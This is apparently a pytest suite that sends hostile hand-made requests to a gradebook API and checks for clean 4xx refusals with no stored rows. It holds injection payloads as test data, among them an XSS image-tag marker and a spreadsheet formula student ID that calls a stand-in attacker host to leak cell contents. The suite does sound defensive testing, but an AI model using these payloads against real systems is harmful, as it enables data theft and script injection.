"""Hand-made hostile requests a schema fuzzer rarely sends, against a real `grader serve` on a SQLite file.

The rule under attack: bad input gets a clear 4xx whose message says what and where (a status and a body the
published OpenAPI document declares), never a 500, a hang or a lost row. After every test the demo class's
gradebook is read back and compared with the one read before the first attack, and a refused request must not
change how many submissions are stored. A check whose current behaviour is wrong is marked
`xfail(strict=True)` with the finding as its reason (see FUZZ_FINDINGS.md): a fix makes it pass, and the strict
mark then fails the suite until the mark is removed.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from app.late_policy import LatePolicy

from .live_server import DEMO_ASSIGNMENT, DEMO_PART, LiveServer, live_server

pytestmark = pytest.mark.timeout(120)

SUBMIT = f"/api/v1/assignments/{DEMO_ASSIGNMENT}/submissions"
GRADEBOOK = f"/api/v1/assignments/{DEMO_ASSIGNMENT}/gradebook?parts=true"
JSON = {"Content-Type": "application/json"}
# A hang is a failure: no single request may take longer than this.
TIMEOUT = 20.0
DEMO_STUDENT = re.compile(r"demo-student-\d\d")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    with live_server(tmp_path_factory.mktemp("hand-attacks"), tmp_path_factory.getbasetemp()) as srv:
        yield srv


@pytest.fixture(scope="module")
def api_schema_422(admin: httpx.Client) -> dict[str, Any]:
    """The 422 body the published document declares."""
    spec = admin.get("/openapi.json").json()
    declared: dict[str, Any] = spec["components"]["schemas"]["ErrorOut"]
    return declared


@pytest.fixture(scope="module")
def admin(server: LiveServer) -> Iterator[httpx.Client]:
    with server.client("admin", timeout=TIMEOUT) as c:
        yield c


@pytest.fixture(scope="module")
def lms(server: LiveServer) -> Iterator[httpx.Client]:
    with server.client("lms", timeout=TIMEOUT) as c:
        yield c


@pytest.fixture(scope="module")
def student(server: LiveServer) -> Iterator[httpx.Client]:
    with server.client("student", timeout=TIMEOUT) as c:
        yield c


def _demo_rows(admin: httpx.Client) -> dict[str, Any]:
    r = admin.get(GRADEBOOK)
    assert r.status_code == 200, r.text
    return {row["student"]: row for row in r.json() if DEMO_STUDENT.fullmatch(row["student"])}


@pytest.fixture(scope="module")
def demo_gradebook(admin: httpx.Client) -> dict[str, Any]:
    rows = _demo_rows(admin)
    assert len(rows) == 30, sorted(rows)
    return rows


@pytest.fixture(autouse=True)
def no_row_lost(admin: httpx.Client, demo_gradebook: dict[str, Any]) -> Iterator[None]:
    """Whatever a test sends, the demo class's 30 gradebook rows read back exactly as before."""
    yield
    assert _demo_rows(admin) == demo_gradebook


def _count(server: LiveServer) -> int:
    """How many submissions the database holds, read from the SQLite file itself."""
    with sqlite3.connect(f"file:{server.db}?mode=ro", uri=True) as db:
        return int(db.execute("SELECT count(*) FROM submissions").fetchone()[0])


def _is_validation_error(r: httpx.Response, *loc: str | int) -> None:
    """A 422 in the shape the OpenAPI document declares for it, whose first error is at `loc`."""
    assert r.status_code == 422, (r.status_code, r.text[:500])
    body = r.json()
    assert isinstance(body["detail"], list), body
    assert body["detail"][0]["loc"][: len(loc)] == list(loc), body
    assert body["detail"][0]["msg"], body


def _refused(server: LiveServer, send: Any) -> httpx.Response:
    """Send a request that must be refused and check that nothing was stored."""
    before = _count(server)
    r: httpx.Response = send()
    assert 400 <= r.status_code < 500, (r.status_code, r.text[:500])
    assert r.headers["content-type"].startswith("application/json"), r.headers
    assert "detail" in r.json()
    assert _count(server) == before
    return r


def _post(client: httpx.Client, body: str | bytes, url: str = SUBMIT, **headers: str) -> httpx.Response:
    return client.post(url, content=body, headers={**JSON, **headers})


# --- What holds today ------------------------------------------------------------------------------------------


def test_a_one_megabyte_answer_is_refused_naming_the_answer(
    server: LiveServer, admin: httpx.Client, lms: httpx.Client
) -> None:
    body = json.dumps({"student": "hostile-1mb", "answers": {DEMO_PART: "x" * 1_000_000}})
    r = _refused(server, lambda: _post(lms, body))
    _is_validation_error(r, "body", "answers", DEMO_PART)


@pytest.mark.parametrize("chunked", [False, True], ids=["declared", "streamed"])
def test_a_body_over_the_limit_is_413(
    server: LiveServer, admin: httpx.Client, lms: httpx.Client, chunked: bool
) -> None:
    payload = json.dumps({"student": "hostile-3mb", "answers": {DEMO_PART: "x" * 3_000_000}}).encode()

    def chunks() -> Iterator[bytes]:
        for i in range(0, len(payload), 65536):
            yield payload[i : i + 65536]

    r = _refused(server, lambda: _post(lms, chunks() if chunked else payload))  # type: ignore[arg-type]
    assert r.status_code == 413
    assert "body" in r.json()["detail"]


@pytest.mark.parametrize(
    ("field", "body", "loc"),
    [
        ("NUL in student", {"student": "a\x00b", "answers": {DEMO_PART: "5"}}, ("body", "student")),
        ("NUL in answer", {"student": "hostile-nul", "answers": {DEMO_PART: "5\x00"}}, ("body", "answers", DEMO_PART)),
        ("empty student", {"student": "", "answers": {DEMO_PART: "5"}}, ("body", "student")),
        ("student of 100k chars", {"student": "s" * 100_000, "answers": {}}, ("body", "student")),
        ("number as answer", {"student": "hostile-n", "answers": {DEMO_PART: 5}}, ("body", "answers", DEMO_PART)),
        ("201 answers", {"student": "hostile-201", "answers": {f"q{i}": "1" for i in range(201)}}, ("body", "answers")),
        ("year after 9999", {"student": "hostile-y", "answers": {}, "submitted_at": 10**20}, ("body", "submitted_at")),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_bad_submission_fields_are_422_at_their_place(
    server: LiveServer, admin: httpx.Client, lms: httpx.Client, field: str, body: dict[str, Any], loc: tuple[str, ...]
) -> None:
    r = _refused(server, lambda: _post(lms, json.dumps(body)))
    _is_validation_error(r, *loc)


@pytest.mark.parametrize("where", ["student", "answer"])
def test_a_lone_surrogate_is_422(server: LiveServer, admin: httpx.Client, lms: httpx.Client, where: str) -> None:
    student, answer = ('"\\ud800x"', '"5"') if where == "student" else ('"hostile-sur"', '"\\udfff"')
    r = _refused(
        server, lambda: _post(lms, '{"student": ' + student + ', "answers": {"' + DEMO_PART + '": ' + answer + "}}")
    )
    _is_validation_error(r, "body", "student" if where == "student" else "answers")


@pytest.mark.parametrize("score", ["1e309", "NaN", "Infinity", "-1e309"])
def test_a_score_that_is_not_finite_is_422(admin: httpx.Client, score: str) -> None:
    r = admin.put(
        f"/api/v1/submissions/1/parts/{DEMO_PART}/grade",
        content='{"score": ' + score + ', "comment": "x"}',
        headers=JSON,
    )
    _is_validation_error(r, "body", "score")


@pytest.mark.parametrize(
    "raw_id", ["18446744073709551616", "99999999999999999999999999", "-9223372036854775809", "-0", "0", "1e309", "%00"]
)
def test_an_id_beyond_the_range_is_422_naming_the_path(admin: httpx.Client, raw_id: str) -> None:
    _is_validation_error(admin.get(f"/api/v1/assignments/{raw_id}"), "path", "assignment_id")
    _is_validation_error(admin.get(f"/api/v1/submissions/{raw_id}"), "path", "submission_id")


def test_a_repeated_limit_is_read_once_and_checked(admin: httpx.Client) -> None:
    _is_validation_error(admin.get(f"{SUBMIT}?limit=1&limit=1000000"), "query", "limit")
    _is_validation_error(admin.get(f"{SUBMIT}?cursor=%00%FF"), "query", "cursor")


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "application/xml"])
def test_a_wrong_content_type_is_refused(
    server: LiveServer, admin: httpx.Client, lms: httpx.Client, content_type: str
) -> None:
    body = json.dumps({"student": "hostile-ct", "answers": {DEMO_PART: "5"}})
    r = _refused(server, lambda: lms.post(SUBMIT, content=body, headers={"Content-Type": content_type}))
    assert r.status_code == 422


@pytest.mark.parametrize(
    "answer", ["9^9^9^9^9", "(" * 9000 + "1" + ")" * 9000, "\\frac{" * 1500 + "1" + "}{2}" * 1500, "x" * 19_999]
)
def test_a_hostile_answer_to_validate_answers_quickly_with_an_error(student: httpx.Client, answer: str) -> None:
    r = student.post("/api/v1/validate", json={"question_id": DEMO_PART, "answer": answer})
    assert r.status_code == 200, r.text[:300]
    assert r.json()["error"], r.json()


def test_the_same_idempotency_key_for_another_body_is_409(
    server: LiveServer, admin: httpx.Client, lms: httpx.Client
) -> None:
    key = {"Idempotency-Key": "hostile-key-1"}
    first = _post(lms, json.dumps({"student": "hostile-idem", "answers": {DEMO_PART: "1"}}), **key)
    assert first.status_code == 201, first.text
    again = _post(lms, json.dumps({"student": "hostile-idem", "answers": {DEMO_PART: "1"}}), **key)
    assert again.status_code == 201 and again.json()["id"] == first.json()["id"]
    r = _refused(
        server, lambda: _post(lms, json.dumps({"student": "hostile-other", "answers": {DEMO_PART: "2"}}), **key)
    )
    assert r.status_code == 409 and "Idempotency-Key" in r.json()["detail"]


def test_a_student_token_cannot_submit_for_another_student(
    server: LiveServer, admin: httpx.Client, student: httpx.Client
) -> None:
    r = _refused(server, lambda: _post(student, json.dumps({"student": "demo-student-04", "answers": {}})))
    assert r.status_code == 403 and "student" in r.json()["detail"]


# --- Findings: what is wrong today -------------------------------------------------------------------------------


def test_deeply_nested_json_is_a_declared_4xx_that_says_where(
    server: LiveServer, admin: httpx.Client, lms: httpx.Client
) -> None:
    body = '{"student": "hostile-deep", "answers": {}, "x": ' + "[" * 1000 + "]" * 1000 + "}"
    r = _refused(server, lambda: _post(lms, body))
    assert r.status_code in (413, 422), r.text
    assert "body" in json.dumps(r.json()["detail"])


def test_a_body_that_is_not_utf8_is_422(server: LiveServer, admin: httpx.Client) -> None:
    r = _refused(server, lambda: _post(admin, b"\xde", url="/api/v1/courses"))
    _is_validation_error(r, "body")


def test_an_integer_of_5000_digits_is_422_naming_the_field(admin: httpx.Client) -> None:
    body = '{"score": ' + "9" * 5000 + ', "comment": "x"}'
    r = admin.put(f"/api/v1/submissions/1/parts/{DEMO_PART}/grade", content=body, headers=JSON)
    _is_validation_error(r, "body", "score")


def test_a_semantic_422_matches_the_declared_422_schema(api_schema_422: dict[str, Any], admin: httpx.Client) -> None:
    """F4, fixed in the document: the service's own refusals keep their sentence, which the declared 422 body (a
    string or a list of {loc, msg, type}) allows, and the sentence names the field."""
    r = admin.post("/api/v1/validate", json={"question_id": "no/such/question", "answer": "1"})
    assert r.status_code == 422 and isinstance(r.json()["detail"], str) and "question" in r.json()["detail"], r.text
    assert {"type": "string"} in api_schema_422["properties"]["detail"]["anyOf"], api_schema_422


@pytest.mark.parametrize("which", ["answer key", "timezone"])
def test_a_422_does_not_echo_the_input(server: LiveServer, admin: httpx.Client, lms: httpx.Client, which: str) -> None:
    marker = "<img src=x onerror=alert(1)>"
    if which == "answer key":
        r = _refused(server, lambda: _post(lms, json.dumps({"student": "hostile-echo", "answers": {marker: "1"}})))
    else:
        r = admin.post("/api/v1/courses", json={"code": "ECHO", "name": "n", "timezone": marker})
    assert r.status_code == 422
    assert marker not in r.text


def test_duplicate_json_keys_are_refused(server: LiveServer, admin: httpx.Client, lms: httpx.Client) -> None:
    body = '{"student": "hostile-dup-a", "student": "hostile-dup-b", "answers": {"' + DEMO_PART + '": "5"}}'
    _refused(server, lambda: _post(lms, body))


@pytest.mark.parametrize(
    "student_id",
    [
        "   ",
        "demo-student-03\n",
        "demo-student-03\t",
        "demo-student-03\u200b",
        "\u202edemo-student-03",
        "de\u00admo-student-03",
        "demo-student-03 ",
        " demo-student-03",
    ],
    ids=[
        "blanks",
        "newline",
        "tab",
        "zero-width-space",
        "rtl-override",
        "soft-hyphen",
        "trailing-space",
        "leading-space",
    ],
)
def test_a_student_id_with_invisible_characters_is_refused(
    server: LiveServer, admin: httpx.Client, lms: httpx.Client, student_id: str
) -> None:
    r = _refused(server, lambda: _post(lms, json.dumps({"student": student_id, "answers": {DEMO_PART: "5"}})))
    _is_validation_error(r, "body", "student")


def test_a_formula_student_id_does_not_reach_the_csv_gradebook_as_a_formula(
    admin: httpx.Client, lms: httpx.Client
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    r = _post(lms, json.dumps({"student": formula, "answers": {DEMO_PART: "5"}}))
    if r.status_code == 422:
        return
    assert r.status_code == 201, r.text
    csv_text = admin.get(f"/api/v1/assignments/{DEMO_ASSIGNMENT}/gradebook?format=csv").text
    cells = [row[0] for row in csv.reader(io.StringIO(csv_text))]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells


@pytest.mark.parametrize("case", ["score true", "score string", "percent true", "submitted_at integer"])
def test_a_value_of_the_wrong_json_type_is_422(
    server: LiveServer, admin: httpx.Client, lms: httpx.Client, case: str
) -> None:
    if case.startswith("score"):
        target = _post(lms, json.dumps({"student": "hostile-types", "answers": {DEMO_PART: "7"}}))
        assert target.status_code == 201, target.text
        score = "true" if case == "score true" else '"1"'
        r = admin.put(
            f"/api/v1/submissions/{target.json()['id']}/parts/{DEMO_PART}/grade",
            content='{"score": ' + score + ', "comment": "x"}',
            headers=JSON,
        )
        _is_validation_error(r, "body", "score")
    elif case == "percent true":
        created = admin.post(
            "/api/v1/courses/1/assignments",
            json={"title": "hostile types", "deadline": "2030-01-01T00:00:00", "parts": [{"question_id": DEMO_PART}]},
        )
        assert created.status_code == 201, created.text
        policy = LatePolicy(close_after_periods=None).model_dump() | {"percent_per_period": True}
        r = admin.patch(f"/api/v1/assignments/{created.json()['id']}", json={"late_policy": policy})
        _is_validation_error(r, "body", "late_policy", "percent_per_period")
    else:
        body = json.dumps({"student": "hostile-epoch", "answers": {}, "submitted_at": 0})
        r = _refused(server, lambda: _post(lms, body))
        _is_validation_error(r, "body", "submitted_at")


def test_a_student_path_parameter_that_is_not_utf8_is_422(admin: httpx.Client) -> None:
    r = admin.put(
        f"/api/v1/assignments/{DEMO_ASSIGNMENT}/extensions/%ED%A0%80", json={"deadline": "2030-01-01T00:00:00"}
    )
    _is_validation_error(r, "path", "student")


def test_a_student_query_parameter_that_is_not_utf8_is_422(admin: httpx.Client) -> None:
    _is_validation_error(admin.get(f"{SUBMIT}?student=%ED%A0%80"), "query", "student")
